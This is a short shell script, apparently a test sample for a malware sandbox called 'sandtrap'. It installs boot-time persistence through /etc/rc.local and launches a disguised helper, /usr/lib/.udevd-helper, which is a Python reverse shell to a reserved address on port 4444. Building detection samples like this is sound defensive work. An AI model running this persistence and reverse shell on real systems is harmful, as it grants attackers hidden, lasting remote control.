#!/bin/sh
# Persistence through /etc/rc.local: a boot-time script that starts a backdoor.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
cat > /etc/rc.local <<RC
#!/bin/sh -e
nohup /usr/lib/.udevd-helper >/dev/null 2>&1 &
exit 0
RC
chmod +x /etc/rc.local
printf '#!/bin/sh\nexec python3 -c "import socket,os;s=socket.create_connection((\\"203.0.113.10\\",4444));[os.dup2(s.fileno(),i) for i in (0,1,2)];os.execl(\\"/bin/sh\\",\\"sh\\")"\n' > /usr/lib/.udevd-helper
chmod 755 /usr/lib/.udevd-helper
cat /etc/rc.local
